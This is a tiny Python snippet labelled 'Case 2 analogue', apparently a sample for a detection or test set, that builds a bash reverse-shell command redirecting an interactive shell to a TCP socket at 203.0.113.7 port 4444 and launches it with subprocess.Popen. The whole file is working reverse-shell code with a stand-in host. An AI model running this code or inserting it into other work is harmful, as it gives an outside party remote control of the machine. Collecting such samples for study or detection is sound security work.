# Case 2 analogue: a shell redirected to a TCP socket.
import subprocess

HOST = "203.0.113.7"
PORT = 4444
cmd = "bash -i >& /dev/tcp/" + HOST + "/" + str(PORT) + " 0>&1"
subprocess.Popen(cmd, shell=True)
